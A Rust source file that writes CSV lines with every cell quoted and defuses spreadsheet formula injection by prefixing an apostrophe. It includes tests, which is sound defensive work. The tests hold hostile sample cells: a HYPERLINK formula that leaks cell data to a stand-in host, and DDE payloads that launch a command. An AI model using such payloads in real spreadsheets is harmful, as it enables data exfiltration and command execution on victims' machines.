//! CSV that spreadsheets take as it is meant: every cell quoted, and none a formula.

use std::borrow::Cow;

use csv::{QuoteStyle, WriterBuilder};

/// One line of a table.
///
/// # Errors
/// Never in practice: there is nothing but memory to write to.
pub fn csv_line<T: AsRef<str>>(cells: &[T]) -> anyhow::Result<Vec<u8>> {
    let mut writer = WriterBuilder::new().quote_style(QuoteStyle::Always).from_writer(Vec::new());
    writer.write_record(cells.iter().map(|cell| harmless(cell.as_ref()).into_owned()))?;
    Ok(writer.into_inner()?)
}

/// A text that a spreadsheet would take for a formula gets an apostrophe, so that it stays a text;
/// numbers stay as they are. Source: OWASP, "CSV Injection".
///
/// Where the list separator of a country is a semicolon, Excel splits a line there instead, and
/// heeds quotes only around its first cell: what stands after a semicolon or the end of a line
/// inside a text begins a cell of its own.
fn harmless(text: &str) -> Cow<'_, str> {
    let begins_cell = |c: char| matches!(c, ';' | '\r' | '\n');
    let mut safe = String::new();
    let mut done = 0;
    let starts = std::iter::once(0).chain(text.match_indices(begins_cell).map(|(at, _)| at + 1));
    for start in starts {
        let cell = &text[start..];
        let whole = start == 0;
        let end = cell.find(begins_cell).unwrap_or(cell.len());
        if !(is_formula(&cell[..end]) || whole && cell.starts_with(['\t', '\r', '\n'])) {
            continue;
        }
        if is_number(if whole { cell } else { &cell[..end] }) {
            continue;
        }
        safe.push_str(&text[done..start]);
        safe.push('\'');
        done = start;
    }
    if done == 0 && safe.is_empty() {
        return text.into();
    }
    safe.push_str(&text[done..]);
    safe.into()
}

/// Whether it begins like a formula, behind blanks and quotes.
fn is_formula(cell: &str) -> bool {
    let blank = |c: char| c.is_whitespace() || c == '\u{feff}' || c == '"';
    cell.trim_start_matches(blank).starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

/// Digits with a sign, a point and an exponent: unlike Rust, which also calls words such as `-inf`
/// a number.
fn is_number(text: &str) -> bool {
    text.bytes().all(|byte| byte.is_ascii_digit() || b"+-.eE".contains(&byte)) && text.parse::<f64>().is_ok()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn formulas_are_disarmed_and_everything_else_is_not() {
        for evil in [
            "=1+1",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1)",
            "\tx",
            "\rx",
            "\n1",
            "  =1",
            "\u{a0}=1",
            "\u{feff}=1",
            "＝1",
            "＠x",
            "-",
            "-inf",
            "+nan",
            "-1-1",
            "--1",
            "\"=1",
            "\t1",
        ] {
            assert_eq!(harmless(evil), format!("'{evil}"));
        }
        for (evil, safe) in [
            ("x;=1+1", "x;'=1+1"),
            ("x; =1+1", "x;' =1+1"),
            ("x;\"=1+1", "x;'\"=1+1"),
            ("x\n@SUM(A1)\r\ny", "x\n'@SUM(A1)\r\ny"),
            ("\t=1", "'\t=1"),
            ("=1;=2;-3;－4", "'=1;'=2;-3;'－4"),
            (";;=1", ";;'=1"),
            ("ü;＝1", "ü;'＝1"),
            ("\n=1", "'\n'=1"),
        ] {
            assert_eq!(harmless(evil), safe);
        }
        let usable = [
            "",
            "plain",
            "a=b",
            "TKT-1",
            "2026-01-20",
            "2026-01-20T09:00:00Z",
            "-0.5",
            "+1",
            "-1e-7",
            "12",
            "'x",
            "a; b; c",
            "low;-5;+1.5",
            "see\nbelow",
        ];
        for text in usable {
            assert_eq!(harmless(text), text);
        }
    }

    #[test]
    fn every_cell_is_quoted() {
        let line = csv_line(&["", "a", "1", "with \"quotes\"", "two\nlines", "=1,2"]).unwrap();
        assert_eq!(
            String::from_utf8(line).unwrap(),
            "\"\",\"a\",\"1\",\"with \"\"quotes\"\"\",\"two\nlines\",\"'=1,2\"\n"
        );
    }

    proptest! {
        #[test]
        fn a_line_is_read_as_it_was_written(cells in prop::collection::vec(".{0,20}", 1..5)) {
            let line = csv_line(&cells).unwrap();
            let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(line.as_slice());
            let read = reader.records().next().unwrap().unwrap();
            prop_assert_eq!(read.len(), cells.len());
            for (cell, read) in cells.iter().zip(&read) {
                prop_assert_eq!(read, &*harmless(cell));
            }
        }
    }
}
